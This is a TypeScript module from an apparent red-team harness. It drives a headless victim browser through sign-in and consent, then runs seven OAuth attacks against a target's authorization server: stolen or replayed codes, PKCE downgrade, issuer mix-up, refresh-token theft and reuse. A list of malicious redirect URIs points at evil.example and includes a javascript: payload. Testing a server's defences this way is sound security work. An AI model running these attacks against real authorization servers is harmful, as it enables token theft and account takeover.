/**
 * Attacks on Bastion's authorization server, for the `oauth` corpus step.
 * A headless user agent plays the victim (signed in at the red team's IdP,
 * approving the consent page as a person would); the attacker is a second
 * registered client, or whoever copied a code or refresh token from logs.
 * An attack that works ends with an access token in the attacker's hands
 * (the corpus then tries it on a tool), or a code or redirect delivered
 * where it must not go.
 *
 * @example
 *   const outcome = await oauthAttack(target, 'refresh_reuse');
 *   if (outcome.token) tokens.set('stolen', outcome.token);
 */
import { createHash, randomBytes } from 'node:crypto';
import type { Refusal } from './agent.ts';
import type { Target } from './target.ts';

export const OAUTH_ATTACKS = ['code_injection', 'code_replay', 'pkce_downgrade', 'mix_up', 'redirect_trick', 'refresh_reuse', 'refresh_theft'] as const;
export type OAuthAttack = (typeof OAUTH_ATTACKS)[number];

export interface OAuthOutcome {
  /** The attack did what the attacker wanted. */
  ok: boolean;
  /** An access token the attacker obtained. */
  token?: string;
  refusal?: Refusal;
  note: string;
}

interface Client {
  id: string;
  redirect: string;
}

/** A browser's cookie jar, enough for one sign-in: cookies by host, paths ignored (names differ). */
export class CookieJar {
  private readonly byHost = new Map<string, Map<string, string>>();
  header(url: URL): string {
    return [...(this.byHost.get(url.host) ?? new Map<string, string>())].map(([k, v]) => `${k}=${v}`).join('; ');
  }
  store(url: URL, response: Response): void {
    const jar = this.byHost.get(url.host) ?? new Map<string, string>();
    this.byHost.set(url.host, jar);
    for (const line of response.headers.getSetCookie()) {
      const [pair] = line.split(';');
      const at = pair!.indexOf('=');
      if (at > 0) jar.set(pair!.slice(0, at).trim(), pair!.slice(at + 1).trim());
    }
  }
}

const pkce = () => {
  const verifier = randomBytes(32).toString('base64url');
  return { verifier, challenge: createHash('sha256').update(verifier).digest('base64url') };
};

async function register(target: Target, name: string): Promise<Client> {
  const redirect = `http://127.0.0.1:1/rt-callback/${randomBytes(6).toString('hex')}`;
  const response = await fetch(`${target.origin}/oauth/reg`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ client_name: name, redirect_uris: [redirect], grant_types: ['authorization_code', 'refresh_token'], response_types: ['code'], token_endpoint_auth_method: 'none' }),
  });
  const body = (await response.json()) as { client_id?: string; error?: string };
  if (!body.client_id) throw new Error(`registration refused: ${body.error ?? response.status}`);
  return { id: body.client_id, redirect };
}

/**
 * The victim's browser: follows redirects between the broker and the IdP,
 * approves the consent page, and stops at the first URL outside both
 * (where a code or error would be delivered), which it returns.
 */
async function browse(target: Target, start: URL): Promise<{ delivered?: URL; status: number; body?: string }> {
  const jar = new CookieJar();
  const idp = new URL(target.config.identity.upstream?.issuer ?? target.origin).host;
  const ours = (url: URL) => url.host === new URL(target.origin).host || url.host === idp;
  let url = start;
  let init: RequestInit = {};
  for (let hop = 0; hop < 20; hop++) {
    const response = await fetch(url, { ...init, redirect: 'manual', headers: { ...(init.headers as Record<string, string>), cookie: jar.header(url) } });
    jar.store(url, response);
    const location = response.headers.get('location');
    if (location) {
      const next = new URL(location, url);
      if (!ours(next)) return { delivered: next, status: response.status };
      url = next;
      init = {};
      continue;
    }
    const body = await response.text();
    const form = /<form method="post" action="([^"]+)">\s*<input type="hidden" name="csrf" value="([^"]+)">/.exec(body);
    if (response.status === 200 && form) {
      // The consent page: the victim approves, as a person would.
      url = new URL(form[1]!.replaceAll('&amp;', '&'), url);
      init = { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', origin: target.origin }, body: new URLSearchParams({ csrf: form[2]!, decision: 'approve' }).toString() };
      continue;
    }
    return { status: response.status, body: body.slice(0, 500) };
  }
  throw new Error('the sign-in did not end within 20 hops');
}

function authorizationUrl(target: Target, client: Client, challenge: string, extra: Record<string, string> = {}): URL {
  const url = new URL(`${target.origin}/oauth/auth`);
  const params = { response_type: 'code', client_id: client.id, redirect_uri: client.redirect, code_challenge: challenge, code_challenge_method: 'S256', state: randomBytes(8).toString('hex'), resource: target.resource, scope: 'mcp', ...extra };
  for (const [k, v] of Object.entries(params)) url.searchParams.set(k, v);
  return url;
}

async function token(target: Target, params: Record<string, string>): Promise<{ ok: boolean; body: Record<string, string> }> {
  const response = await fetch(`${target.origin}/oauth/token`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(params) });
  return { ok: response.status === 200, body: (await response.json().catch(() => ({}))) as Record<string, string> };
}

/** The victim signs in with `client`; returns the delivered code and the verifier. */
async function victimCode(target: Target, client: Client): Promise<{ code: string; verifier: string; delivered: URL }> {
  const { verifier, challenge } = pkce();
  const { delivered } = await browse(target, authorizationUrl(target, client, challenge));
  const code = delivered?.searchParams.get('code');
  if (!delivered || !code) throw new Error(`the victim's sign-in failed: ${delivered?.href ?? 'no redirect'}`);
  return { code, verifier, delivered };
}

const redeem = (target: Target, client: Client, code: string, verifier: string) =>
  token(target, { grant_type: 'authorization_code', code, code_verifier: verifier, redirect_uri: client.redirect, client_id: client.id, resource: target.resource });

export const refused = (body: Record<string, string>): Refusal => ({ stage: 'authorization_server', code: body.error ?? 'refused', reason: body.error_description ?? '' });

/** Runs one attack against a target broker's authorization server. */
export async function oauthAttack(target: Target, attack: OAuthAttack): Promise<OAuthOutcome> {
  const victim = await register(target, 'victim agent');
  switch (attack) {
    case 'code_injection': {
      // A code leaked from the victim's redirect, redeemed by the attacker's own client, or with a guessed verifier.
      const attacker = await register(target, 'attacker');
      const { code } = await victimCode(target, victim);
      const own = await redeem(target, { ...attacker, redirect: victim.redirect }, code, pkce().verifier);
      if (own.ok) return { ok: true, token: own.body.access_token!, note: "the victim's code was redeemed by another client" };
      const guessed = await redeem(target, victim, code, pkce().verifier);
      if (guessed.ok) return { ok: true, token: guessed.body.access_token!, note: 'the code was redeemed without its PKCE verifier' };
      return { ok: false, refusal: refused(guessed.body), note: 'the injected code was refused' };
    }
    case 'code_replay': {
      const { code, verifier } = await victimCode(target, victim);
      const first = await redeem(target, victim, code, verifier);
      if (!first.ok) throw new Error(`the victim could not redeem its code: ${first.body.error}`);
      const replay = await redeem(target, victim, code, verifier);
      return replay.ok ? { ok: true, token: replay.body.access_token!, note: 'a code was redeemed twice' } : { ok: false, refusal: refused(replay.body), note: 'the replayed code was refused' };
    }
    case 'pkce_downgrade': {
      const verifier = randomBytes(32).toString('base64url');
      const { delivered, status } = await browse(target, authorizationUrl(target, victim, verifier, { code_challenge_method: 'plain' }));
      const code = delivered?.searchParams.get('code');
      if (!code) return { ok: false, refusal: { stage: 'authorization_server', code: delivered?.searchParams.get('error') ?? `HTTP_${status}` }, note: 'plain PKCE was refused' };
      const redeemed = await redeem(target, victim, code, verifier);
      return redeemed.ok ? { ok: true, token: redeemed.body.access_token!, note: 'a plain PKCE challenge was accepted' } : { ok: false, refusal: refused(redeemed.body), note: 'the plain-PKCE code was refused' };
    }
    case 'mix_up': {
      // Without `iss` in the response, a client talking to two servers cannot tell whose code it holds (RFC 9207).
      const { delivered } = await victimCode(target, victim);
      const iss = delivered.searchParams.get('iss');
      if (iss !== target.origin) return { ok: true, note: `the authorization response names ${iss === null ? 'no issuer' : `issuer ${iss}`}` };
      const foreign = await redeem(target, victim, randomBytes(32).toString('base64url'), pkce().verifier);
      return foreign.ok ? { ok: true, token: foreign.body.access_token!, note: "another server's code was accepted" } : { ok: false, refusal: refused(foreign.body), note: 'the response carries iss; a foreign code is refused' };
    }
    case 'redirect_trick': {
      const base = new URL(victim.redirect);
      const tricks = [
        `${victim.redirect}/../../evil`,
        `${victim.redirect}?next=https://evil.example/`,
        `${victim.redirect}#evil`,
        `http://127.0.0.1:1@evil.example${base.pathname}`,
        `http://evil.example${base.pathname}`,
        `${base.protocol}//${base.host.toUpperCase()}${base.pathname}x`,
        'javascript:alert(1)',
      ];
      for (const trick of tricks) {
        const { delivered } = await browse(target, authorizationUrl(target, { ...victim, redirect: trick }, pkce().challenge));
        if (delivered && delivered.href !== victim.redirect && !delivered.href.startsWith(`${victim.redirect}?`)) {
          return { ok: true, note: `the browser was sent to ${delivered.href}` };
        }
      }
      return { ok: false, refusal: { stage: 'authorization_server', code: 'invalid_redirect_uri' }, note: `${tricks.length} redirect URI tricks answered on an error page` };
    }
    case 'refresh_reuse':
    case 'refresh_theft': {
      const { code, verifier } = await victimCode(target, victim);
      const first = await redeem(target, victim, code, verifier);
      if (!first.ok) throw new Error(`the victim could not redeem its code: ${first.body.error}`);
      if (attack === 'refresh_theft') {
        const thief = await register(target, 'thief');
        const stolen = await token(target, { grant_type: 'refresh_token', refresh_token: first.body.refresh_token!, client_id: thief.id });
        return stolen.ok ? { ok: true, token: stolen.body.access_token!, note: "another client used the victim's refresh token" } : { ok: false, refusal: refused(stolen.body), note: 'the stolen refresh token was refused' };
      }
      const rotated = await token(target, { grant_type: 'refresh_token', refresh_token: first.body.refresh_token!, client_id: victim.id });
      if (!rotated.ok) throw new Error(`the victim could not refresh: ${rotated.body.error}`);
      const reused = await token(target, { grant_type: 'refresh_token', refresh_token: first.body.refresh_token!, client_id: victim.id });
      if (reused.ok) return { ok: true, token: reused.body.access_token!, note: 'a rotated refresh token was used again' };
      // Reuse must also end the family: the victim's newest token (which the attacker may have too) is dead.
      const newest = await token(target, { grant_type: 'refresh_token', refresh_token: rotated.body.refresh_token!, client_id: victim.id });
      return newest.ok ? { ok: true, token: newest.body.access_token!, note: 'reuse was refused but the family lived on' } : { ok: false, refusal: refused(reused.body), note: 'reuse refused and the family revoked' };
    }
  }
}
